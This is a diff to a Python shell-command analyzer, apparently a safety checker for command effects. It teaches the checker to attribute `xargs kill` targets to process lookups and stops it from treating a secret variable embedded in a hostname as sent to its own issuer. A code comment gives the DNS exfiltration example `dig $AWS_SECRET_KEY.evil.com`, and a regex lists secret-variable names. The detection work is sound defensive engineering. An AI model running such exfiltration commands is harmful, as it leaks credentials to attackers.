@@ -424,6 +424,13 @@ def _command_effects(
     if program == "find":
         found = _find_deletes_matches(found, command)
     fed = command.input_from
+    if command.via == "xargs" and fed is not None and fed.program in _PROCESS_LOOKUPS:
+        # `pgrep -f sidecar | xargs kill`: the pids are the lookup's, like `kill $(pgrep ...)`.
+        named = f"$({' '.join((fed.program, *fed.args))[:200]})"
+        found = [
+            e._replace(target=named) if e.action is Action.KILL and e.target == _XARGS_INPUT else e
+            for e in found
+        ]
     if command.via == "xargs" and fed is not None and fed.program == "find":
         # `find DIR ... | xargs cat`: it reads the files below DIR, not DIR itself.
         found = [
@@ -453,6 +460,8 @@ def _command_effects(
 
 
 _PYTHONS = frozenset({"python", "python3", "python2", "pypy", "pypy3"})
+_PROCESS_LOOKUPS = frozenset({"pgrep", "pidof", "lsof", "fuser", "ps", "ss", "netstat", "awk"})
+_XARGS_INPUT = "$(xargs input)"
 
 
 def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
@@ -474,6 +483,7 @@ def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
 _NETWORK = frozenset({Action.SEND, Action.FETCH, Action.CONNECT})
 _LOOKS = frozenset({Action.READ, Action.FETCH})  # what read-only commands may do
 # `$GITHUB_TOKEN`, `${OPENAI_API_KEY}`: variables that hold secrets by their name.
+_VARIABLE_REFERENCE = re2.compile(r"\$\{?[A-Za-z_][A-Za-z0-9_]*\}?|\$\([^)]*\)")
 _SECRET_VARIABLE = re2.compile(
     r"\$\{?([A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|"
     r"CREDENTIALS?|AUTH|SESSION_?KEY)[A-Za-z0-9_]*)\}?",
@@ -791,7 +801,9 @@ def _issued_by(variable: str, host: str) -> bool:
     """GITHUB_TOKEN to api.github.com, OPENAI_API_KEY to api.openai.com: the issuer itself."""
     vendor = variable.lower().split("_")[0]
     vendor = _VENDOR_SHORT_NAMES.get(vendor, vendor)
-    return len(vendor) >= 3 and vendor in host.lower()
+    # The host's own name, not the variable spelt in it (`dig $AWS_SECRET_KEY.evil.com`).
+    named = _VARIABLE_REFERENCE.sub("", host).lower()
+    return len(vendor) >= 3 and vendor in named
 
 
 # First words of secret names that say nothing about who issued the secret.
